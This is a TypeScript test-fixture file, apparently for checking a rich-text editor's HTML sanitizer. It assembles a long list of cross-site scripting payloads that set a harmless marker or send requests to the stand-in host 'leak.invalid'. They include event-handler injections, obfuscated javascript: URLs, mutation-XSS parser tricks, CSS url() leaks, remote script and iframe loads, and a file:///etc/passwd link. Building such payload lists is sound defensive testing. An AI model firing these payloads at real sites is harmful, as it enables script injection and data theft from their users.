import { combinedPayloads } from './combined-payloads.ts'

/** What each payload runs, if anything lets it. */
const fire = 'globalThis.fired=1'
/** Where each payload sends a request, if anything lets it. */
const leak = 'https://leak.invalid/x'

/** Run by themselves in an ordinary page; they are the control of the others. */
export const selfFiring: readonly string[] = [
  `<img src=x onerror="${fire}">`,
  `<svg onload="${fire}"></svg>`,
  `<script>${fire}</script>`,
  `<video><source onerror="${fire}" src=x></video>`,
  `<iframe srcdoc="<script>parent.${fire}</script>"></iframe>`,
  `<audio src=x onerror="${fire}"></audio>`,
  `<input autofocus onfocus="${fire}">`,
  `<details open ontoggle="${fire}">x</details>`,
  `<svg><animate attributeName=x dur=1ms onbegin="${fire}"></animate></svg>`,
  `<object data="data:text/html,x" onerror="${fire}" onload="${fire}"></object>`,
]

const handlers = [
  'onclick',
  'onmouseover',
  'onpointerenter',
  'onfocus',
  'onblur',
  'onpaste',
  'onanimationstart',
  'ontransitionend',
  'onbeforeinput',
  'onscroll',
  'onwheel',
  'ondrag',
  'oncontextmenu',
  'onload',
  'onbeforetoggle',
]

const carriers = ['p', 'b', 'a', 'h1', 'li', 'blockquote', 'div', 'span', 'x-note']

const onHandlers = handlers.map(
  (handler, place) =>
    `<${carriers[place % carriers.length]} ${handler}="${fire}" tabindex=0>words</${carriers[place % carriers.length]}>`,
)

const schemes = [
  `javascript:${fire}`,
  `JaVaScRiPt:${fire}`,
  `java\nscript:${fire}`,
  `java\tscript:${fire}`,
  ` javascript:${fire}`,
  `\u0001javascript:${fire}`,
  `javascript&colon;${fire}`,
  `&#106;avascript:${fire}`,
  `&#x6a;&#x61;vascript:${fire}`,
  `javascript://leak.invalid/%0a${fire}`,
  `data:text/html,<script>${fire}</script>`,
  'data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLmZpcmVkPTE8L3NjcmlwdD4=',
  `vbscript:${fire}`,
  'file:///etc/passwd',
  'blob:https://leak.invalid/x',
  'filesystem:https://leak.invalid/x',
  'http://leak.invalid/x',
  '//leak.invalid/x',
  'app://journal/index.html',
  'about:blank',
  `https://a"onclick="${fire}`,
  'https://a b',
  'https://a<b>',
  'tel:+100',
  'ms-msdt:/id',
  'intent://x#Intent;end',
]

const links = schemes.flatMap((address) => [
  `<a href="${address.replaceAll('"', '&quot;')}">words</a>`,
  `<span data-address="${address.replaceAll('"', '&quot;')}">words</span>`,
])

const embeds = [
  `<img src="${leak}">`,
  `<img srcset="${leak} 2x">`,
  `<picture><source srcset="${leak}"><img></picture>`,
  `<video poster="${leak}" src="${leak}" autoplay></video>`,
  `<audio src="${leak}" autoplay></audio>`,
  `<iframe src="${leak}"></iframe>`,
  `<iframe src="javascript:parent.${fire}"></iframe>`,
  `<embed src="${leak}">`,
  `<object data="${leak}"></object>`,
  `<applet code="${leak}"></applet>`,
  `<link rel="stylesheet" href="${leak}">`,
  `<link rel="prefetch" href="${leak}">`,
  `<link rel="modulepreload" href="${leak}">`,
  `<base href="${leak}">`,
  `<meta http-equiv="refresh" content="0;url=${leak}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${fire}">`,
  `<script src="${leak}"></script>`,
  `<script type="module">import "${leak}"</script>`,
  `<script type="speculationrules">{"prerender":[{"urls":["${leak}"]}]}</script>`,
  `<script type="importmap">{"imports":{"x":"${leak}"}}</script>`,
  `<form action="${leak}"><input name=q><button autofocus>go</button></form>`,
  `<form><button formaction="javascript:${fire}">go</button></form>`,
  `<isindex action="javascript:${fire}">`,
  `<body background="${leak}" onload="${fire}">words</body>`,
  `<table background="${leak}"><tr><td background="${leak}">words</td></tr></table>`,
  `<portal src="${leak}"></portal>`,
  `<frameset><frame src="${leak}"></frameset>`,
  `<track src="${leak}">`,
]

const styles = [
  `<p style="background:url(${leak})">words</p>`,
  `<p style="background-image:image-set('${leak}' 1x)">words</p>`,
  `<ol style="list-style-image:url(${leak})"><li>words</ol>`,
  `<style>@import "${leak}"; * { background: url(${leak}) }</style>`,
  `<style>@font-face{font-family:x;src:url(${leak})} p{font-family:x}</style><p>words</p>`,
  `<p style="width:expression(${fire})">words</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">words over everything</p>`,
  `<ol type="javascript:${fire}" start="99999999999"><li>words</ol>`,
]

const foreign = [
  `<svg><script>${fire}</script></svg>`,
  `<svg><a xlink:href="javascript:${fire}"><text>words</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${fire}>#x"></use></svg>`,
  `<svg><foreignObject><img src=x onerror="${fire}"></foreignObject></svg>`,
  `<svg><image href="${leak}"></image></svg>`,
  `<svg><set attributeName=onmouseover to="${fire}"></set></svg>`,
  `<svg><style>@import "${leak}"</style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${fire}">`,
  `<math href="javascript:${fire}">words</math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror="${fire}"></annotation-xml></math>`,
]

const parserTricks = [
  `<noscript><p title="</noscript><img src=x onerror=${fire}>">words</noscript>`,
  `<template><img src=x onerror="${fire}"></template>`,
  `<template shadowrootmode="open"><img src=x onerror="${fire}"></template>`,
  `<textarea><img title="</textarea><img src=x onerror=${fire}>"></textarea>`,
  `<title><img title="</title><img src=x onerror=${fire}>"></title>`,
  `<xmp><img title="</xmp><img src=x onerror=${fire}>"></xmp>`,
  `<!--><img src=x onerror="${fire}">-->`,
  `<![CDATA[><img src=x onerror="${fire}">]]>`,
  `<select><option><style></option></select><img src=x onerror="${fire}"></style>`,
  `<img/src="x"/onerror="${fire}">`,
  `<img src=x onerror=${fire}//`,
  `<<img src=x onerror="${fire}">>`,
  `<p><a href="https://example.org/"><img src=x onerror="${fire}">words</a></p>`,
  `<svg></p><style><a id="</style><img src=x onerror=${fire}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${fire}">`,
  `<p id="__proto__" class="constructor">words</p><img name="getElementById">`,
  `<p slot="x" is="x-note" contenteditable="false" autofocus>words</p>`,
  `<div data-pm-slice="0 0 [&quot;iframe&quot;,{&quot;src&quot;:&quot;${leak}&quot;}]"><p>words</p></div>`,
  `<div data-pm-slice="1 1 []"><p onclick="${fire}">words</p></div>`,
  `<div data-pm-slice="0 0 [&quot;__proto__&quot;,null]"><p>words</p></div>`,
]

const checkLists = [
  `<ul data-type="taskList"><li data-type="taskItem" data-checked="true" onclick="${fire}"><div>words</div></li></ul>`,
  `<ul data-type="taskList"><li data-type="taskItem" data-checked="<img src=x onerror=${fire}>">words</li></ul>`,
  `<ul data-type="taskList"><li><img src=x onerror="${fire}">words</li></ul>`,
  `<ul><li><input type=checkbox autofocus onfocus="${fire}">words</li></ul>`,
  `<ul><li><label><input type=checkbox onchange="${fire}" style="background:url(${leak})"></label>words</li></ul>`,
  `<ul><li><input type=checkbox form=x formaction="javascript:${fire}" checked=javascript:${fire}>words</li></ul>`,
  `<input type=image src="${leak}" onerror="${fire}">`,
  `<hr onload="${fire}" background="${leak}" style="border-image:url(${leak})">`,
  `<mark onmouseover="${fire}" style="background:url(${leak})" data-color="url(${leak})">words</mark>`,
]

/** Each once. */
export const scriptPayloads: readonly string[] = [
  ...new Set([
    ...selfFiring,
    ...onHandlers,
    ...links,
    ...embeds,
    ...styles,
    ...foreign,
    ...parserTricks,
    ...checkLists,
    ...combinedPayloads,
  ]),
]
